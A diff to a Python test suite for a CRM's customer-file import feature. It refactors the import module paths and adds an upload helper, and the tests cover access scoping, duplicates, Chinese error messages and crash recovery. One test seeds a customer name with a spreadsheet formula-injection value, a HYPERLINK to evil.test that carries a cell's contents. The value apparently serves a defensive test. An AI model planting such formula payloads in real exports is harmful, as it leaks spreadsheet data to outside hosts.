@@ -17,22 +17,23 @@ import msgspec
 import openpyxl
 import pytest
 
-from server.access import Role, Scope
+from server.access import Actor, Role, Scope
 from server.customers import queries, service
 from server.customers.exports import service as exports
 from server.customers.exports.sheets import Words
-from server.customers.imports import queries as imports_queries
-from server.customers.imports import service as imports
-from server.customers.imports.queries import BadPlan
-from server.customers.imports.reasons import CODES, Language, reason
-from server.customers.imports.sandbox import FileNotRead
-from server.customers.imports.schemas import Columns, ImportView, Policy, StartImport
-from server.customers.imports.service import ImportStarted, UploadRunning
+from server.customers.imports.target import CUSTOMERS
 from server.customers.rules import fields, identifiers, status
 from server.customers.schemas import Filters, NewContact
 from server.customers.service import references
 from server.identity import service as identity
 from server.identity.schemas import UserChange
+from server.imports import queries as imports_queries
+from server.imports import service as imports
+from server.imports.queries import BadPlan
+from server.imports.reasons import COMMON_ZH, Language, reason
+from server.imports.sandbox import FileNotRead
+from server.imports.schemas import Columns, ImportView, Policy, StartImport
+from server.imports.service import ImportStarted, UploadRunning
 from server.kit import db, outbox
 from server.kit.errors import Forbidden, IdReused, NotFound, Refusal
 from server.settings import Settings
@@ -50,9 +51,14 @@ def sheet(*rows: str, header: str = "客户名称,电话,税号,状态") -> byte
     return "\r\n".join([header, *rows]).encode("gb18030")
 
 
+async def upload(actor: Actor, file_name: str, content: bytes, **extra: Any) -> ImportView:
+    """Upload a file of customers."""
+    return await imports.upload(actor, file_name, content, target="customers", now=NOW, **extra)
+
+
 async def hand_in(tenant: Tenant, content: bytes, **extra: Any) -> ImportView:
     """Upload a file."""
-    return await imports.upload(tenant.owner, "客户.csv", content, now=NOW, **extra)
+    return await upload(tenant.owner, "客户.csv", content, **extra)
 
 
 async def bring_in(
@@ -89,12 +95,12 @@ async def test_files_are_taken_in_one_by_one_and_one_a_person(tenant: Tenant) ->
     people = (tenant.owner, tenant.owner, tenant.manager)
 
     answers = await asyncio.gather(
-        *(imports.upload(who, "客户.csv", content, now=NOW) for who in people),
+        *(upload(who, "客户.csv", content) for who in people),
         return_exceptions=True,
     )
 
     assert [type(answer) for answer in answers] == [ImportView, UploadRunning, ImportView]
-    assert (await imports.upload(tenant.owner, "客户.csv", content, now=NOW)).row_count == 1
+    assert (await upload(tenant.owner, "客户.csv", content)).row_count == 1
 
 
 @pytest.mark.parametrize("kind", FileKind)
@@ -104,7 +110,7 @@ async def test_a_real_file_is_imported_and_its_bad_rows_are_told(
     rng = random.Random(11)
     file = write(rng, numbers.start(rng), Order(rows=1200, kind=kind))
 
-    view = await imports.upload(tenant.owner, file.file_name, file.content, now=NOW)
+    view = await upload(tenant.owner, file.file_name, file.content)
     preview = await imports_queries.preview(tenant.owner, view.id, StartImport())
     await imports.start(tenant.owner, view.id, StartImport(), now=NOW)
     await imports.run(tenant.owner, view.id, now=NOW)
@@ -240,7 +246,7 @@ async def test_a_row_of_a_colleague_is_told_without_the_name(tenant: Tenant) -> 
     stranger = tenant.actor(Role.SALES_REP, team_id=new_id())
     await make(stranger, "龙井茶行", phone="13805710001")
     content = sheet("别的茶行,13805710001,,")
-    view = await imports.upload(tenant.manager, "客户.csv", content, now=NOW)
+    view = await upload(tenant.manager, "客户.csv", content)
     await imports.start(tenant.manager, view.id, StartImport(duplicates=Policy.UPDATE), now=NOW)
 
     await imports.run(tenant.manager, view.id, now=NOW)
@@ -300,7 +306,7 @@ async def test_an_import_is_of_its_company_and_of_those_who_may(
         with pytest.raises(NotFound):
             await question
     with pytest.raises(Forbidden):
-        await imports.upload(tenant.rep, "客户.csv", sheet("龙井茶行,,,"), now=NOW)
+        await upload(tenant.rep, "客户.csv", sheet("龙井茶行,,,"))
     assert [each.id for each in (await imports_queries.list_page(tenant.owner)).items] == [view.id]
     assert (await imports_queries.list_page(rival.owner)).items == []
 
@@ -308,7 +314,7 @@ async def test_an_import_is_of_its_company_and_of_those_who_may(
 async def test_below_the_company_a_person_sees_their_own_imports_alone(tenant: Tenant) -> None:
     theirs = await hand_in(tenant, sheet("龙井茶行,13805710001,,", "坏行,123,,"))
     manager = msgspec.structs.replace(tenant.manager, scope=Scope.MINE)
-    own = await imports.upload(manager, "a.csv", sheet("黄酒坊,,,"), now=NOW)
+    own = await upload(manager, "a.csv", sheet("黄酒坊,,,"))
 
     for person in (manager, tenant.manager):
         for question in (
@@ -323,12 +329,11 @@ async def test_below_the_company_a_person_sees_their_own_imports_alone(tenant: T
         listed = await imports_queries.list_page(person)
         assert [each.id for each in listed.items] == [own.id]
         with pytest.raises(IdReused):
-            await imports.upload(
+            await upload(
                 person,
                 "客户.csv",
                 sheet("龙井茶行,13805710001,,", "坏行,123,,"),
                 import_id=theirs.id,
-                now=NOW,
             )
     assert (await imports_queries.one(tenant.owner, theirs.id)).state == "uploaded"
     assert {each.id for each in (await imports_queries.list_page(tenant.owner)).items} == {
@@ -340,7 +345,7 @@ async def test_below_the_company_a_person_sees_their_own_imports_alone(tenant: T
 async def test_a_double_is_named_to_those_alone_who_see_it(tenant: Tenant) -> None:
     stranger = tenant.actor(Role.SALES_REP, team_id=new_id())
     await make(stranger, '=HYPERLINK("http://evil.test/?"&A2)', phone="13805710001")
-    view = await imports.upload(tenant.manager, "a.csv", sheet("茶行,13805710001,,"), now=NOW)
+    view = await upload(tenant.manager, "a.csv", sheet("茶行,13805710001,,"))
     preview = await imports_queries.preview(tenant.owner, view.id, StartImport())
     await imports.start(tenant.owner, view.id, StartImport(), now=NOW)
     await imports.run(tenant.owner, view.id, now=NOW)
@@ -403,11 +408,14 @@ def test_each_reason_that_a_rule_has_is_said_in_chinese() -> None:
     }
 
     assert {"bad_phone", "illegal_transition", "unknown_tag"} <= refusals
-    assert refusals <= CODES
-    assert reason("duplicate_in_file", "", "Row 12 is the same customer.", Language.ZH) == (
-        "与第 12 行是同一客户。"
+    assert refusals <= COMMON_ZH.keys() | CUSTOMERS.reasons_zh.keys()
+    assert reason(
+        "customers", "duplicate_in_file", "", "Row 12 is the same customer.", Language.ZH
+    ) == ("与第 12 行是同一客户。")
+    assert (
+        reason("customers", "newer_code", "phone", "Something new.", Language.ZH)
+        == "phone: Something new."
     )
-    assert reason("newer_code", "phone", "Something new.", Language.ZH) == "phone: Something new."
 
 
 async def test_the_worker_takes_an_import_from_the_outbox(tenant: Tenant) -> None:
@@ -441,7 +449,7 @@ async def test_an_import_is_done_as_its_person_stands_now(tenant: Tenant) -> Non
     stranger = tenant.actor(Role.SALES_REP, team_id=new_id())
     hidden = await make(stranger, "龙井茶行", phone="13805710001")
     content = sheet("龙井茶行,13805710001,,意向")
-    view = await imports.upload(tenant.manager, "a.csv", content, now=NOW)
+    view = await upload(tenant.manager, "a.csv", content)
     plan = StartImport(duplicates=Policy.UPDATE)
     await imports.start(forged, view.id, plan, now=NOW)
 
@@ -459,7 +467,7 @@ async def test_an_import_stops_when_its_person_may_not_import_any_more(
 ) -> None:
     person = tenant.manager
     maker = tenant.owner if what == "narrowed" else person
-    view = await imports.upload(maker, "a.csv", sheet("龙井茶行,,,"), now=NOW)
+    view = await upload(maker, "a.csv", sheet("龙井茶行,,,"))
     starter = msgspec.structs.replace(person, scope=Scope.TENANT)
     await imports.start(starter, view.id, StartImport(), now=NOW)
     if what == "disabled":
@@ -518,12 +526,13 @@ from datetime import datetime
 from uuid import UUID
 import msgspec
 from server.access import Actor
-from server.customers.imports import service
+from server.imports import service
 from server.kit import db
 from server.settings import Settings
 from server.worker import collect_handlers
 
 async def main():
+    collect_handlers()
     await db.open_database(Settings(database_url=sys.argv[1]))
     actor = msgspec.json.decode(sys.argv[2], type=Actor)
     print("ready", flush=True)
@@ -539,7 +548,7 @@ async def test_kill_9_at_any_moment_loses_and_doubles_nothing(
 ) -> None:
     rng = random.Random(5)
     file = write(rng, numbers.start(rng), Order(rows=6000, kind=FileKind.CSV_GB18030))
-    view = await imports.upload(tenant.owner, "大表.csv", file.content, now=NOW)
+    view = await upload(tenant.owner, "大表.csv", file.content)
     await imports.start(tenant.owner, view.id, StartImport(), now=NOW)
     killed = 0
 
